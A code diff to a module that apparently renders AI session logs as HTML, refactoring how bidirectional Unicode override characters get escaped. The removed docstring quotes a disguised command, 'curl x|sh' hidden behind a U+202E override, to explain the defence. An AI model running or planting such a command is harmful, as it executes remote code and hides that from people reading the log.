@@ -26,6 +26,7 @@ from tether.session.html_markup import code_block, code_css, diff_lines, looks_l
 from tether.session.labels import fold_labels
 from tether.session.pi_format import iso_timestamp
 from tether.store.entries import EntryDict
+from tether.wire.escapes import BIDI, escaped
 
 PALETTE: dict[str, str] = {
     "page-bg": "#ffffff",
@@ -117,13 +118,11 @@ def render_session_page(
             "</main></body></html>\n",
         ]
     )
-    return _BIDI.sub(lambda found: f"\\u{ord(found.group()):04x}", page)
+    return _BIDI.sub(escaped, page)
 
 
-_BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
-"""The bidirectional overrides and isolates, written as escapes as the terminal writes them
-(``tether.cli.terminal_text``): U+202E shows the rest of a line reversed, so a command the model
-ran (``echo "\\u202e";curl x|sh #"``) read as an echo of garbage on the page."""
+_BIDI = re.compile(f"[{BIDI}]")
+"""The bidirectional overrides and isolates, written as escapes as the terminal writes them."""
 
 
 class _Page:
